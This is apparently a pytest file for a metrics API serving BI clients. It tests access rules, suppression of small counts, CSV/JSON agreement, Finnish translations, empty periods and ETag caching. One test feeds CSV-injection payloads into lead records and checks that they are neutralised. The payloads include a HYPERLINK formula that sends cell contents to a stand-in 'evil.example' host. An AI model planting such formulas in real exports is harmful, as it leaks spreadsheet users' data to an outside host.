"""The BI interface: access, suppression, CSV, empty periods, ETags (issue 6, acceptance 3)."""

from __future__ import annotations

import csv
import io
import re
import uuid

import pytest

from services.metrics.definitions import INDICATORS
from services.metrics.indicators.service import to_csv
from tests.conftest import ServiceApi
from tests.metrics.pathways import build_employers, build_pathways, build_placements, d
from tests.metrics.world import World

BI = ("bi", "metrics:read")


async def six_and_two(world: World) -> None:
    """wac1 ends six enrolments as employed, bc1 two: one cell over the threshold, one under."""
    for n in range(6):
        enrolment = await world.enrol("wac1", d(2, 3))
        await world.end(enrolment, "employed", d(1 + n, 6))
    for n in range(2):
        enrolment = await world.enrol("bc1", d(2, 3), service_line="business")
        await world.end(enrolment, "job_search", d(10 + n, 6))
    await world.catch_up()


async def test_small_cells_are_suppressed_for_bi_but_not_for_a_team_lead(world: World) -> None:
    await six_and_two(world)
    bi = await world.figures(
        "activation_rate", group_by="coordinator_role", headers=world.metrics.as_machine(*BI)
    )
    assert bi["suppressed_below"] == 5
    assert bi["rows"] == [
        {
            "coordinator_role": "business_coordinator",
            "numerator": None,
            "denominator": None,
            "value": None,
            "suppressed": True,
        },
        {
            "coordinator_role": "work_ability_coordinator",
            "numerator": 6,
            "denominator": 6,
            "value": 100.0,
            "suppressed": False,
        },
    ]
    lead = await world.figures("activation_rate", group_by="coordinator_role")
    assert lead["suppressed_below"] is None
    assert [r["denominator"] for r in lead["rows"]] == [2, 6]
    assert not any(r["suppressed"] for r in lead["rows"])


async def test_a_coordinator_sees_only_their_own_figures(world: World) -> None:
    await six_and_two(world)
    own = await world.figures(
        "activation_rate",
        group_by="coordinator",
        headers=world.metrics.as_staff("bc1", "business_coordinator"),
    )
    assert own["rows"] == [
        {"coordinator": "bc1", "numerator": 0, "denominator": 2, "value": 0.0, "suppressed": False}
    ]
    total = await world.figures(
        "outcomes", headers=world.metrics.as_staff("wac1", "work_ability_coordinator")
    )
    assert total["rows"] == [{"outcome": "employed", "value": 6, "suppressed": False}]


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 401),
        ({"Authorization": "Bearer nonsense"}, 401),
        ("coach", 403),
        ("ladec", 403),
    ],
)
async def test_who_may_not_read_metrics(world: World, headers: object, status: int) -> None:
    if headers == "coach":
        headers = world.metrics.as_staff("coach", "coach")
    elif headers == "ladec":
        headers = world.metrics.as_machine("ladec", "leads:write", "leads:read")
    assert isinstance(headers, dict)
    for path in ("/api/v1/metrics", "/api/v1/metrics/activation_rate"):
        response = await world.metrics.client.get(path, headers=headers)
        assert response.status_code == status
        assert response.headers["content-type"].startswith("application/problem+json")


async def test_only_an_admin_triggers_a_catch_up(world: World) -> None:
    for headers in (
        world.metrics.as_staff("lead", "team_lead"),
        world.metrics.as_machine(*BI),
    ):
        response = await world.metrics.client.post("/api/v1/metrics/catch-up", headers=headers)
        assert response.status_code == 403


async def test_the_catalogue_lists_every_contract_indicator(world: World) -> None:
    response = await world.metrics.client.get(
        "/api/v1/metrics", headers=world.metrics.as_machine(*BI)
    )
    assert response.status_code == 200
    items = {item["id"]: item for item in response.json()["items"]}
    assert set(items) == {
        "activation_rate",
        "official_activation_rate",
        "outcomes",
        "funnel",
        "contact_sla",
        "caseload",
        "transfers",
        "lead_response",
        "employers",
        "satisfaction",
        "plan_currency",
        "enrolment_duration",
        "long_term_unemployment",
        "plan_debt",
        "wellbeing_change",
        "job_referrals",
        "wage_subsidy_periods",
        "recruitment_events",
        "reach",
    }
    for item in items.values():
        assert len(item["description"]) > 80
        assert item["definition_version"]
        assert item["unit"]
        assert item["dimensions"]


FINNISH_NAMES = {
    "activation_rate": "Aktivointiaste (projektin määritelmä)",
    "official_activation_rate": "Aktivointiaste (TEM:n tilaston määritelmä)",
    "outcomes": "Päättyneiden asiakkuuksien jatkopolut",
    "funnel": "Asiakkuuksien eteneminen",
    "contact_sla": "Ensimmäinen yhteydenotto määräajassa",
    "caseload": "Asiakasmäärä koordinaattoria kohden",
    "transfers": "Siirrot koordinaattorien välillä",
    "lead_response": "Rekrypisteen liidien käsittely",
    "employers": "Työnantajakontaktit ja yhteistyöyritykset",
    "satisfaction": "Asiakastyytyväisyys",
    "plan_currency": "Ajantasaiset asiakassuunnitelmat",
    "enrolment_duration": "Asiakkuuksien kesto",
    "long_term_unemployment": "Pitkäaikaistyöttömien osuus",
    "plan_debt": "Vanhentuneet asiakassuunnitelmat",
    "wellbeing_change": "Asiakkaiden hyvinvoinnin muutos",
    "job_referrals": "Työpaikkaohjaukset",
    "wage_subsidy_periods": "Palkkatukijaksot sektoreittain",
    "recruitment_events": "Rekrytointitapahtumat",
    "reach": "Tavoittavuus ja tavoitteet",
}


def quoted_terms(text: str) -> set[str]:
    """The parameters, fields and codes a definition names in backticks."""
    return set(re.findall(r"`([^`]+)`", text))


async def test_every_indicator_is_named_and_defined_in_finnish_and_english(world: World) -> None:
    response = await world.metrics.client.get(
        "/api/v1/metrics", headers=world.metrics.as_staff("lead", "team_lead")
    )
    assert response.status_code == 200
    items = response.json()["items"]
    assert {item["id"]: item["translations"]["fi"]["name"] for item in items} == FINNISH_NAMES
    for item in items:
        finnish, english = item["translations"]["fi"], item["translations"]["en"]
        # The English text is the one BI clients already read, word for word.
        assert english == {"name": item["name"], "description": item["description"]}
        assert len(finnish["description"]) > 80
        assert finnish["description"] != english["description"]
        # A translation of the same versioned definition names the same fields and codes.
        assert quoted_terms(finnish["description"]) == quoted_terms(english["description"])


async def test_unknown_dimension_and_indicator(world: World) -> None:
    headers = world.metrics.as_staff("lead", "team_lead")
    response = await world.metrics.client.get(
        "/api/v1/metrics/activation_rate?group_by=coordinator_role,shoe_size", headers=headers
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["loc"] == ["query", "group_by"]
    assert "shoe_size" in response.json()["errors"][0]["msg"]
    response = await world.metrics.client.get(
        "/api/v1/metrics/funnel?group_by=outcome", headers=headers
    )
    assert response.status_code == 422
    response = await world.metrics.client.get(
        "/api/v1/metrics/funnel?from=2026-12-01&to=2026-01-01", headers=headers
    )
    assert response.status_code == 422
    response = await world.metrics.client.get(
        "/api/v1/metrics/funnel?from=1.1.2026", headers=headers
    )
    assert response.status_code == 422
    response = await world.metrics.client.get("/api/v1/metrics/happiness", headers=headers)
    assert response.status_code == 404


def parse_csv(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


async def test_every_indicator_answers_json_and_csv_with_the_same_columns(world: World) -> None:
    pathways = await build_pathways(world)
    await build_employers(world)
    await build_placements(world, pathways)
    for indicator in INDICATORS:
        await check_json_and_csv_agree(world, indicator.id)


async def check_json_and_csv_agree(world: World, indicator: str) -> None:
    headers = world.metrics.as_staff("lead", "team_lead")
    params = {"from": "2026-01-01", "to": "2026-12-31", "group_by": "month"}
    as_json = await world.metrics.client.get(
        f"/api/v1/metrics/{indicator}", params=params, headers=headers
    )
    assert as_json.status_code == 200
    body = as_json.json()
    as_csv = await world.metrics.client.get(
        f"/api/v1/metrics/{indicator}", params={**params, "format": "csv"}, headers=headers
    )
    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert not as_csv.content.startswith(b"\xef\xbb\xbf")
    assert as_csv.content.endswith(b"\r\n")
    table = parse_csv(as_csv.text)
    assert body["rows"], f"{indicator} has figures in this world"
    assert table[0] == body["columns"]
    assert len(table) - 1 == len(body["rows"])
    for line, row in zip(table[1:], body["rows"], strict=True):
        assert line == [csv_cell(row[c]) for c in body["columns"]]
    negotiated = await world.metrics.client.get(
        f"/api/v1/metrics/{indicator}", params=params, headers={**headers, "Accept": "text/csv"}
    )
    assert negotiated.text == as_csv.text


def csv_cell(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return f"{value:.1f}"
    return str(value)


async def test_semicolon_csv_for_finnish_excel(world: World) -> None:
    await build_pathways(world)
    await world.catch_up()
    response = await world.metrics.client.get(
        "/api/v1/metrics/activation_rate",
        params={
            "from": "2026-01-01",
            "to": "2026-12-31",
            "format": "csv",
            "delimiter": "semicolon",
        },
        headers=world.metrics.as_staff("lead", "team_lead"),
    )
    assert response.content.startswith(b"\xef\xbb\xbf"), "Excel reads UTF-8 only after a BOM"
    table = parse_csv(response.content.decode("utf-8-sig"), ";")
    assert table == [
        ["numerator", "denominator", "value", "suppressed"],
        ["2", "4", "50,0", "false"],
    ]


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Lahti")', "+358", "-2+3", "@SUM(A1)"]


async def test_a_lead_cannot_plant_a_formula_in_the_bi_csv(
    world: World, employers_api: ServiceApi
) -> None:
    """Finding 7: a LADEC lead's municipality is text the BI's spreadsheet must not run."""
    ladec = employers_api.as_machine("ladec", "leads:write")
    for municipality in FORMULAS:
        pushed = await employers_api.client.post(
            "/api/v1/leads",
            json={
                "external_id": f"LADEC-CSV-{uuid.uuid4().hex[:8]}",
                "business_id": "1572860-0",
                "company_name": "Rakennus Oy Esimerkki",
                "need": "Two construction helpers",
                "municipality": municipality,
                "industry": "F",
                "received_at": "2026-03-02T10:00:00+02:00",
            },
            headers={**ladec, "Idempotency-Key": str(uuid.uuid4())},
        )
        assert pushed.status_code == 201, pushed.text
    await world.catch_up()
    for delimiter, separator in (("comma", ","), ("semicolon", ";")):
        response = await world.metrics.client.get(
            "/api/v1/metrics/lead_response",
            params={
                "from": "2026-01-01",
                "to": "2026-12-31",
                "group_by": "municipality",
                "format": "csv",
                "delimiter": delimiter,
            },
            headers=world.metrics.as_staff("lead", "team_lead"),
        )
        assert response.status_code == 200, response.text
        table = parse_csv(response.content.decode("utf-8-sig"), separator)
        assert table[0][0] == "municipality"
        assert sorted(line[0] for line in table[1:]) == sorted("'" + m for m in FORMULAS)
        # The figures beside them are numbers, written as numbers.
        assert all(line[1].isdigit() for line in table[1:]), table


def test_numbers_keep_their_sign_and_only_text_is_defused() -> None:
    header = ["dimension", "count", "change", "suppressed"]
    rows = [
        {"dimension": "\tTAB", "count": -3, "change": -1.25, "suppressed": False},
        {"dimension": "\rCR", "count": 0, "change": None, "suppressed": True},
        {"dimension": "Lahti-Hollola", "count": 7, "change": 2.0, "suppressed": False},
    ]
    comma = parse_csv(to_csv(header, rows, "comma").decode())
    assert comma[1:] == [
        ["'\tTAB", "-3", "-1.2", "false"],
        ["'\rCR", "0", "", "true"],
        ["Lahti-Hollola", "7", "2.0", "false"],
    ]
    semicolon = parse_csv(to_csv(header, rows, "semicolon").decode("utf-8-sig"), ";")
    assert [line[1:3] for line in semicolon[1:]] == [["-3", "-1,2"], ["0", ""], ["7", "2,0"]]


async def test_an_empty_period_keeps_the_schema(world: World) -> None:
    await build_pathways(world)
    await world.catch_up()
    for indicator in INDICATORS:
        await check_empty_period(world, indicator.id)


async def check_empty_period(world: World, indicator: str) -> None:
    headers = world.metrics.as_machine(*BI)
    params = {"from": "2020-01-01", "to": "2020-12-31", "group_by": "month"}
    body = (
        await world.metrics.client.get(
            f"/api/v1/metrics/{indicator}", params=params, headers=headers
        )
    ).json()
    assert body["rows"] == []
    assert body["columns"][0] == "month"
    assert body["columns"][-1] == "suppressed"
    as_csv = await world.metrics.client.get(
        f"/api/v1/metrics/{indicator}", params={**params, "format": "csv"}, headers=headers
    )
    assert parse_csv(as_csv.text) == [body["columns"]]


async def test_an_unchanged_answer_costs_a_304(world: World) -> None:
    await build_pathways(world)
    await world.catch_up()
    headers = world.metrics.as_machine(*BI)
    url = "/api/v1/metrics/funnel?from=2026-01-01&to=2026-12-31"
    first = await world.metrics.client.get(url, headers=headers)
    etag = first.headers["etag"]
    assert "no-cache" in first.headers["cache-control"]
    again = await world.metrics.client.get(url, headers={**headers, "If-None-Match": etag})
    assert again.status_code == 304
    assert again.content == b""
    other_query = await world.metrics.client.get(
        url + "&group_by=month", headers={**headers, "If-None-Match": etag}
    )
    assert other_query.status_code == 200
    as_lead = await world.metrics.client.get(
        url, headers={**world.metrics.as_staff("lead", "team_lead"), "If-None-Match": etag}
    )
    assert as_lead.status_code == 200, "a team lead's unsuppressed answer is another answer"

    enrolment = await world.enrol("wac1", d(1, 10))
    await world.end(enrolment, "employed", d(2, 10))
    await world.catch_up()
    changed = await world.metrics.client.get(url, headers={**headers, "If-None-Match": etag})
    assert changed.status_code == 200
    assert changed.headers["etag"] != etag
